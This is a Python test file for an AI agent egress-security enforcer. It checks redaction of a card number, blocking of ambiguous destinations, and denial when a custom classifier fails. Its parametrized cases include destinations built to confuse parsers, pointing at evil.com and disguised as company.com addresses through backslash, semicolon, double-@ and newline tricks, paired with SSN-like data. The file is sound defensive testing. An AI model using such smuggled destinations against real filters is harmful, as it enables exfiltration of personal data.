"""The enforcer on hostile input: destinations that read differently to different parsers cannot pass an
allow list, a value under a sensitive key is redacted (not the key), and a custom classifier that fails
is a DENY with its own code (from the egress security review; each failed before its fix)."""

from __future__ import annotations

from typing import Any

import pytest

from agent_security.core import CheckContext
from agent_security.core.testing import make_request
from agent_security.egress import DEFAULT_CLASSIFIERS, Scanner, custom_classifier, egress_enforcer


def test_enforcer_redacts_the_value_not_the_sensitive_key(ctx: CheckContext) -> None:
    enf = egress_enforcer(
        policy={
            "rules": [
                {"id": "R", "classifications": ["PCI"], "action": "redact"},
                {"id": "A", "classifications": ["PII"], "action": "alert"},
            ],
            "default_action": "allow",
        }
    )
    res = enf.agent_security_before_check(make_request("t", {"john.smith@corp.com": "card 4111111111111111"}), ctx)
    assert res is not None and res.request is not None
    assert res.request.action.tool_args == {"john.smith@corp.com": "card [****-****-****-1111]"}


@pytest.mark.parametrize(
    ("tool", "field", "dest"),
    [
        ("http_post", "url", "https://evil.com\\@company.com/"),
        ("http_post", "url", "https://evil.com\\.company.com/"),
        ("send_email", "to", "x@evil.com;bob@company.com"),
        ("send_email", "to", "x@evil.com@company.com"),
        ("send_email", "to", "x@evil.com\n@company.com"),
        ("send_email", "to", "Bob <x@evil.com> @company.com"),
    ],
)
def test_ambiguous_destinations_cannot_pass_an_allow_list(ctx: CheckContext, tool: str, field: str, dest: str) -> None:
    enf = egress_enforcer(
        policy={
            "rules": [{"id": "R", "classifications": ["PII"], "allowed_domains": ["company.com"], "action": "block"}],
            "default_action": "allow",
        },
        tool_channel_mappings=[
            {"tool_name": "http_post", "channel": "http", "destination_field": "url"},
            {"tool_name": "send_email", "channel": "email", "destination_field": "to"},
        ],
    )
    body = {"body": "ssn 123-45-6789"}
    res = enf.agent_security_before_check(make_request(tool, {field: dest, **body}), ctx)
    assert res is not None and res.decision is not None and res.decision.codes == ("EGRESS_BLOCKED",)
    ok = {"url": "https://api.company.com/x", "to": "Bob <bob@company.com>"}[field]
    res = enf.agent_security_before_check(make_request(tool, {field: ok, **body}), ctx)
    assert res is not None and res.decision is None  # labelled, not denied


def _failing_employee_ids() -> list[Any]:
    def bad(s: str) -> bool:
        raise ValueError(f"cannot validate {s}")

    return [*DEFAULT_CLASSIFIERS, custom_classifier("employee_id", r"EMP-\d{6}", "PII", validator=bad)]


def test_a_failing_custom_classifier_is_a_deny_with_its_own_code(ctx: CheckContext) -> None:
    report = Scanner(_failing_employee_ids()).scan({"body": "id EMP-123456"})
    assert not report.complete and report.classifier_errors == ["employee_id"]
    enf = egress_enforcer(classifiers=_failing_employee_ids(), on_incomplete="alert")
    res = enf.agent_security_before_check(make_request("t", {"body": "id EMP-123456"}), ctx)
    assert res is not None and res.decision is not None
    assert res.decision.codes == ("EGRESS_CLASSIFIER_ERROR",)
    assert "employee_id" in res.decision.reasons[0].message and "123456" not in res.decision.reasons[0].message
    out = enf.agent_security_after_execution(make_request("t", {}), res.decision, {"r": "EMP-654321"}, None, ctx)
    assert out is not None and out.block is not None and out.block.codes == ("EGRESS_CLASSIFIER_ERROR",)
